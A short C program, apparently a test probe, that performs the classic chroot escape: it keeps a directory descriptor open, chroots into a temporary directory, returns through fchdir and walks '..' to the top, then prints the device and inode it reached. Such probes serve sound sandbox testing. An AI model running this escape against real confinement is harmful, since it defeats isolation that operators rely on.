/* chroot_escape: the classic way out of a chroot: a directory held open, a chroot below it, and ".." until the top.
 * Prints "escape: ERRNO", or "reached DEV:INODE" of the directory where ".." ended. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "answer.h"

int main(void) {
    const int top = open("/", O_RDONLY | O_DIRECTORY);
    char below[] = "/tmp/escape.XXXXXX";
    if (mkdtemp(below) == NULL) {
        answer("mkdtemp", -1);
        return 1;
    }
    if (chroot(below) != 0) {
        answer("escape", -1);
        return 1;
    }
    if (fchdir(top) != 0) {
        answer("escape", -1);
        return 1;
    }
    for (int i = 0; i < 64; ++i) {
        if (chdir("..") != 0) {
            break;
        }
    }
    struct stat status;
    if (stat(".", &status) != 0) {
        answer("escape", -1);
        return 1;
    }
    printf("reached %lu:%lu\n", (unsigned long)status.st_dev, (unsigned long)status.st_ino);
    return 0;
}
